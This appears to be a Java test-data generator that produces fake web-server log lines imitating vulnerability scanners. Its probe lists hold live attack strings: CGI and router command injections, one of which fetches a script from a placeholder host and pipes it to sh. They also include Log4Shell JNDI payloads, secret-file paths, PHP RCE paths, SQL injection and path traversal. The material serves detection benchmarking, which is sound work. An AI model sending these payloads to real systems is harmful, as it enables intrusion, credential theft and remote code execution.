package org.probehunt.bench;

import java.util.SplittableRandom;

/**
 * What scanning hosts send: six kits, from the 1998 CGI checks to Log4Shell and scanner tools. A
 * scanner keeps one kit and one user agent, and mixes plain requests in with its probes.
 */
final class Probes {
  static final int KITS = 6;

  private static final String[] LEGACY = {
    "/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd",
    "/cgi-bin/phf",
    "/cgi-bin/test-cgi?*",
    "/cgi-bin/handler",
    "/cgi-bin/nph-test-cgi?*",
    "/cgi-bin/campas?%0acat%0a/etc/passwd%0a",
    "/cgi-bin/webdist.cgi?distloc=;cat%20/etc/passwd",
  };
  private static final String[] SECRETS = {
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/.env.production",
    "/wp-config.php.bak",
    "/api/.env",
    "/backup.zip",
    "/.git/HEAD",
    "/.DS_Store",
    "/phpinfo.php",
  };
  private static final String[] PHP = {
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
    "/phpmyadmin/index.php",
    "/wp-includes/wlwmanifest.xml",
    "/_ignition/execute-solution",
  };
  private static final String[] IOT = {
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F203.0.113.9%2Ft+-O-%7Csh%60)",
    "/cgi-bin/luci",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/bins.sh;sh+bins.sh",
  };
  private static final String[] TOOL_TARGETS = {
    "/products/10234?id=1%27%20AND%201%3D1--%20-",
    "/search?q=1%22%20OR%20%221%22%3D%221",
    "/cgi-bin/phf",
    "/admin/",
    "/login.php",
    "/",
    "/index.php?page=../../../../etc/passwd",
  };
  private static final String[] AGENTS = {
    "-",
    "Mozilla/4.0 (compatible; MSIE 4.01; Windows 95)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Hello, world",
    "Mozila/5.0",
  };

  private Probes() {}

  /** The user agent a scanner keeps; for the log4shell and tool kits it is itself the probe. */
  static String agent(int kit, int scanner) {
    return switch (kit) {
      case 0 -> AGENTS[scanner % 2];
      case 1, 2 -> AGENTS[2 + scanner % 4];
      case 3 -> AGENTS[5 + scanner % 3];
      case 4 ->
          scanner % 3 == 0
              ? "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100." + scanner % 250 + ":1389/a}"
              : "${jndi:ldap://198.51.100."
                  + scanner % 250
                  + ":1389/Basic/Command/Base64/d2dldCBodHRwOi8vMjAzLjAuMTEzLjkvc2g=}";
      default ->
          switch (scanner % 3) {
            case 0 -> "sqlmap/1.7.2#stable (https://sqlmap.org)";
            case 1 ->
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:00" + (1000 + scanner) + ")";
            default -> "Mozilla/5.0 zgrab/0.x";
          };
    };
  }

  /** One request of a scanner, from the request line to the user agent's closing quote. */
  static void send(AsciiBuffer out, SplittableRandom r, int kit, String agent) {
    if (r.nextInt(10) >= 6 && kit < 4) {
      Traffic.plainRequest(out, r, agent);
      return;
    }
    probe(out, r, kit, agent);
  }

  /** One probe of kit {@code kit}, from the request line to the user agent's closing quote. */
  static void probe(AsciiBuffer out, SplittableRandom r, int kit, String agent) {
    switch (kit) {
      case 0 ->
          out.append("GET ")
              .append(pick(r, LEGACY))
              .append(" HTTP/1.0\" 404 ")
              .append(200 + r.nextInt(80));
      case 1 -> out.append("GET ").append(pick(r, SECRETS)).append(" HTTP/1.1\" 404 196");
      case 2 -> {
        String target = pick(r, PHP);
        out.append(target.contains("eval-stdin") ? "POST " : "GET ")
            .append(target)
            .append(" HTTP/1.1\" 404 196");
      }
      case 3 ->
          out.append(r.nextBoolean() ? "POST " : "GET ")
              .append(pick(r, IOT))
              .append(" HTTP/1.1\" 400 226");
      case 4 -> {
        out.append("GET /");
        if (r.nextBoolean()) {
          out.append("?x=${jndi:ldap://198.51.100.7:1389/a}");
        }
        out.append(" HTTP/1.1\" 200 ").append(9_000 + r.nextInt(2_000));
      }
      default ->
          out.append("GET ")
              .append(pick(r, TOOL_TARGETS))
              .append(" HTTP/1.1\" ")
              .append(r.nextBoolean() ? "404 196" : "200 5120");
    }
    out.append(" \"-\"");
    Traffic.agent(out, agent);
  }

  private static String pick(SplittableRandom r, String[] choices) {
    return choices[r.nextInt(choices.length)];
  }
}
